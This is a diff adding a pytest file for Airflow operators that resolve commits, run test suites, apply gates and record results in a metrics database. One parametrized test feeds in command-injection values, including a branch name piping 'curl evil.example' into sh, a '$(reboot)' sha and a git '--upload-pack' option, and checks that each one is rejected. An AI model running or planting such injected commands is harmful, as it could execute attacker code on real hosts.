@@ -1,0 +1,178 @@
+"""Per-commit operators via execute(context), against a real metrics DB (SQLite and PostgreSQL) and real
+git repositories: bad input, timeouts, empty suites and a database outage are recorded, then raised."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+import yaml
+from airflow.sdk.exceptions import AirflowException, AirflowFailException
+from sqlalchemy import select
+from sqlalchemy.orm import Session, selectinload
+
+from assay.demo_repo import prepare_demo_repo
+from assay.store import MetricsStore
+from assay.store.models import SuiteRun
+from assay_airflow.operators.gates import CommitGatesOperator
+from assay_airflow.operators.per_commit import PytestSuiteOperator, ResolveCommitOperator
+from support.context import TaskInstanceStub, make_context
+
+
+@pytest.fixture
+def sample_target(tmp_path, fixtures_dir, monkeypatch, metrics_url):
+    """A target whose repo is the sample suite (with a failing and a hanging test), configured by file."""
+    repo = tmp_path / "sample-repo"
+    sha = prepare_demo_repo(repo, source=fixtures_dir / "sample_suite")
+    cfg = {"targets": {"sample": {
+        "repo": str(repo), "python": "worker", "source": "calc",
+        "suites": {"unit": {"marker": "unit and not slow", "timeout_s": 60},
+                   "hang": {"marker": "slow", "timeout_s": 2},
+                   "empty": {"paths": ["calc"]}},
+        "gates": {"coverage_min": 50, "critical_paths": ["calc/*.py"]},
+    }}}
+    path = tmp_path / "assay.yaml"
+    path.write_text(yaml.safe_dump(cfg))
+    monkeypatch.setenv("ASSAY_CONFIG", str(path))
+    monkeypatch.setenv("ASSAY_METRICS_DB_URL", metrics_url)
+    return {"sha": sha, "url": metrics_url}
+
+
+def rows(url, **where):
+    store = MetricsStore(url)
+    with Session(store.engine) as s:
+        q = select(SuiteRun).options(selectinload(SuiteRun.test_cases))
+        for k, v in where.items():
+            q = q.where(getattr(SuiteRun, k) == v)
+        out = s.scalars(q).all()
+    store.dispose()
+    return out
+
+
+def resolve(params, ti=None):
+    ctx = make_context("resolve_commit", params, ti=ti)
+    out = ResolveCommitOperator(task_id="resolve_commit").execute(ctx)
+    ctx["ti"].xcom_push("return_value", out)  # as the task runner does with a return value
+    return ctx, out
+
+
+def test_resolve_records_and_returns_the_exact_commit(sample_target):
+    _, out = resolve({"target": "sample", "sha": sample_target["sha"][:10], "branch": "main"})
+    assert out == {"target": "sample", "sha": sample_target["sha"], "branch": "main",
+                   "requested_sha": sample_target["sha"][:10]}
+    (row,) = rows(sample_target["url"], name="checkout")
+    assert row.status == "PASS" and row.commit_sha == sample_target["sha"]
+
+
+@pytest.mark.parametrize(
+    "params, expected",
+    [
+        ({"target": "sample", "sha": "1234567"}, "commit 1234567 does not exist in target 'sample'"),
+        ({"target": "unknown-repo", "branch": "main"}, "target 'unknown-repo' is not configured"),
+        ({"target": "sample", "branch": "main; curl evil.example | sh"}, "branch 'main; curl evil.example | sh'"),
+        ({"target": "sample", "sha": "$(reboot)"}, "sha '$(reboot)' must be 7 to 40 hexadecimal"),
+        ({"target": "sample", "branch": "--upload-pack=touch /tmp/pwned"}, "must not start with '-'"),
+    ],
+)
+def test_bad_input_fails_at_once_and_is_recorded(sample_target, params, expected, tmp_path):
+    with pytest.raises(AirflowFailException) as err:
+        resolve(params)
+    assert expected in str(err.value)
+    (row,) = rows(sample_target["url"], name="checkout")
+    assert row.status == "ERROR" and expected in row.message
+
+
+def test_repo_that_does_not_exist_is_a_retryable_error(sample_target, tmp_path):
+    cfg_path = tmp_path / "assay.yaml"
+    cfg = yaml.safe_load(cfg_path.read_text())
+    cfg["targets"]["sample"]["repo"] = str(tmp_path / "gone")
+    cfg_path.write_text(yaml.safe_dump(cfg))
+    with pytest.raises(AirflowException) as err:
+        resolve({"target": "sample", "branch": "main"})
+    assert not isinstance(err.value, AirflowFailException)
+    assert f"target repository {str(tmp_path / 'gone')!r}" in str(err.value)
+
+
+def run_suite(suite, ti):
+    ctx = make_context(f"{suite}_tests", ti=ti)
+    return PytestSuiteOperator(task_id=f"{suite}_tests", suite=suite).execute(ctx)
+
+
+def test_failing_suite_records_then_fails_without_retry(sample_target):
+    ctx, _ = resolve({"target": "sample", "branch": "main"})
+    with pytest.raises(AirflowFailException, match="1 failed"):
+        run_suite("unit", ctx["ti"])
+    (row,) = rows(sample_target["url"], name="unit")
+    assert row.status == "FAIL"
+    assert sorted(t.outcome for t in row.test_cases) == ["error", "failed", "passed", "passed", "passed", "skipped"]
+
+
+def test_hanging_suite_is_error_and_empty_suite_is_error(sample_target, monkeypatch, tmp_path):
+    monkeypatch.setenv("SAMPLE_HANG", "1")
+    monkeypatch.setenv("SAMPLE_HANG_PIDFILE", str(tmp_path / "pid"))
+    ctx, _ = resolve({"target": "sample", "branch": "main"})
+    for suite, fragment in (("hang", "exceeded its timeout of 2 s"), ("empty", "collected no tests")):
+        with pytest.raises(AirflowException, match=fragment) as err:
+            run_suite(suite, ctx["ti"])
+        assert not isinstance(err.value, AirflowFailException)  # ERROR is retryable
+        (row,) = rows(sample_target["url"], name=suite)
+        assert row.status == "ERROR"
+
+
+def test_gates_read_what_was_recorded_and_name_the_failures(sample_target, monkeypatch, tmp_path):
+    monkeypatch.setenv("SAMPLE_HANG", "1")
+    monkeypatch.setenv("SAMPLE_HANG_PIDFILE", str(tmp_path / "pid"))
+    ctx, _ = resolve({"target": "sample", "branch": "main"})
+    ti = ctx["ti"]
+    for suite in ("unit", "hang", "empty"):
+        with pytest.raises(AirflowException):
+            run_suite(suite, ti)
+    gate_ctx = make_context("evaluate_gates", ti=ti)
+    with pytest.raises(AirflowFailException) as err:
+        CommitGatesOperator(task_id="evaluate_gates").execute(gate_ctx)
+    assert "per-commit verdict ERROR" in str(err.value)
+    (gate,) = rows(sample_target["url"], name="per_commit_gates")
+    checks = {c["name"]: c["status"] for c in gate.summary["checks"]}
+    assert checks["all_tests_pass"] == "FAIL" and checks["suite_completed:hang"] == "ERROR"
+    assert checks["coverage_min"] == "PASS" and checks["critical_path:calc/*.py"] == "FAIL"
+
+
+def test_metrics_db_down_while_recording_parks_then_flushes_once(sample_target, tmp_path, monkeypatch):
+    if not sample_target["url"].startswith("sqlite"):
+        pytest.skip("the PostgreSQL outage is covered through a TCP proxy in tests/unit/store/test_outbox.py")
+    ctx, _ = resolve({"target": "sample", "branch": "main"})
+    down_path = tmp_path / "down.db"
+    down_path.mkdir()  # a directory where the database file should be: every connection fails
+    monkeypatch.setenv("ASSAY_METRICS_DB_URL", f"sqlite:///{down_path}")
+    monkeypatch.setenv("ASSAY_METRICS_DB_ATTEMPTS", "2")
+    monkeypatch.setenv("ASSAY_METRICS_DB_BACKOFF_S", "0.01")
+    with pytest.raises(AirflowException, match="parked in the outbox"):
+        run_suite("unit", ctx["ti"])
+    down_path.rmdir()  # the database comes back
+    ti2 = TaskInstanceStub(run_id=ctx["ti"].run_id, try_number=2, xcoms=ctx["ti"].xcoms)
+    with pytest.raises(AirflowFailException):
+        run_suite("unit", ti2)  # the retry flushes try 1, then records try 2
+    recorded = sorted((r.try_number, r.status) for r in rows(f"sqlite:///{down_path}", name="unit"))
+    assert recorded == [(1, "FAIL"), (2, "FAIL")]
+    with pytest.raises(AirflowException):  # the gate flushes nothing twice
+        CommitGatesOperator(task_id="evaluate_gates").execute(make_context("evaluate_gates", ti=ti2))
+    assert len(rows(f"sqlite:///{down_path}", name="unit")) == 2
+
+
+def test_operator_init_only_assigns():
+    op = PytestSuiteOperator(task_id="t", suite="unit")
+    assert (op.suite, op.commit_task_id, op.metrics_conn_id) == ("unit", "resolve_commit", "assay_metrics")
+    assert "assay_config" not in op.__dict__ and "metrics_hook" not in op.__dict__
+
+
+def test_metrics_connection_resolution(monkeypatch):
+    from assay_airflow.hooks.metrics_db import MetricsDbHook
+
+    monkeypatch.delenv("ASSAY_METRICS_DB_URL", raising=False)
+    monkeypatch.setenv("AIRFLOW_CONN_ASSAY_METRICS", json.dumps(
+        {"conn_type": "postgres", "host": "db", "port": 5432, "login": "u", "password": "p@ss", "schema": "metrics"}))
+    assert MetricsDbHook().get_url() == "postgresql+psycopg2://u:p%40ss@db:5432/metrics"
+    monkeypatch.delenv("AIRFLOW_CONN_ASSAY_METRICS")
+    assert MetricsDbHook().get_url().endswith("/airflow/assay_metrics.db")
+    monkeypatch.setenv("ASSAY_METRICS_DB_URL", "sqlite:////x.db")
+    assert MetricsDbHook().get_url() == "sqlite:////x.db"
